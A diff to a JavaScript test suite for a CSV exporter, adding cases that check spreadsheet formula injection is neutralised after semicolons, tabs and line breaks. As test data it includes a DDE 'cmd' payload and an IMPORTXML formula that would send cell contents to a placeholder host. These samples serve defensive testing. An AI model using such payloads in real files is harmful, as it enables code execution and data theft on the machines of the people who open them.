@@ -17,6 +17,11 @@ describe('csvCell: RFC 4180 quoting', () => {
     expect(csvCell('')).toBe('');
   });
 
+  it('quotes a field with a semicolon or a tab, which spreadsheets in many locales split at', () => {
+    expect(csvCell('a;b')).toBe('"a;b"');
+    expect(csvCell('a\tb')).toBe('"a\tb"');
+  });
+
   it('quotes a field with a comma, a double quote (doubled), a CR or an LF', () => {
     expect(csvCell('Yes, Thursday')).toBe('"Yes, Thursday"');
     expect(csvCell('it is under "Maya".')).toBe('"it is under ""Maya""."');
@@ -39,8 +44,8 @@ describe('csvCell: cells a spreadsheet would run are made inert', () => {
     ['+1+1', `"'+1+1"`],
     ['-2+3', `"'-2+3"`],
     ['@SUM(A1:A2)', `"'@SUM(A1:A2)"`],
-    ['\t=1+1', `"'\t=1+1"`],
-    ['\r=1+1', `"'\r=1+1"`],
+    ['\t=1+1', `"'\t'=1+1"`],
+    ['\r=1+1', `"'\r'=1+1"`],
     ["=cmd|' /C calc'!A0", `"'=cmd|' /C calc'!A0"`],
   ])('%j becomes %j', (value, cell) => {
     expect(csvCell(value)).toBe(cell);
@@ -59,9 +64,29 @@ describe('csvCell: cells a spreadsheet would run are made inert', () => {
     expect(csvCell('-2E3')).toBe(`"'-2E3"`);
   });
 
-  it('only the first character counts: a formula later in the text is plain text', () => {
+  it.each([
+    ['Total;=1+1;ok', `"Total;'=1+1;ok"`],
+    ['Total,=1+1', `"Total,'=1+1"`],
+    ['Total\t+1+1', `"Total\t'+1+1"`],
+    ['a;-2+3;b;@SUM(A1)', `"a;'-2+3;b;'@SUM(A1)"`],
+    ['a; =1+1', `"a; '=1+1"`],
+    ['a;"=1+1"', `"a;""'=1+1"""`],
+    [' =1+1', `" '=1+1"`],
+    ['"=1+1', `"""'=1+1"`],
+    ['Hello\n=1+1', `"Hello\n'=1+1"`],
+    ['Hello\r\n-1+1', `"Hello\r\n'-1+1"`],
+    ['=1;=2', `"'=1;'=2"`],
+  ])(
+    'makes a formula after any separator a spreadsheet splits at, or a line break, inert: %j becomes %j',
+    (value, cell) => {
+      expect(csvCell(value)).toBe(cell);
+    },
+  );
+
+  it('leaves a formula character anywhere else as it is', () => {
     expect(csvCell('Total =1+1')).toBe('Total =1+1');
     expect(csvCell('mail me @ home')).toBe('mail me @ home');
+    expect(csvCell('2+2=4; see you')).toBe('"2+2=4; see you"');
   });
 });
 
@@ -113,6 +138,11 @@ describe('messagesCsv', () => {
       testMessage({ sid: 'SM1', body: '=IMPORTXML(CONCAT("https://x.example/?",A1),"//a")' }),
     ]);
     expect(rowsOf(csv)).toContain(`,"'=IMPORTXML(CONCAT(""https://x.example/?"",A1),""//a"")",`);
+  });
+
+  it("makes a formula after a semicolon inert, for Excel in a locale whose list separator is ';'", () => {
+    const csv = messagesCsv([testMessage({ sid: 'SM1', body: 'Total;=1+1;ok' })]);
+    expect(rowsOf(csv)).toContain(`,"Total;'=1+1;ok",`);
   });
 
   it('is only the BOM and the header for no messages', () => {
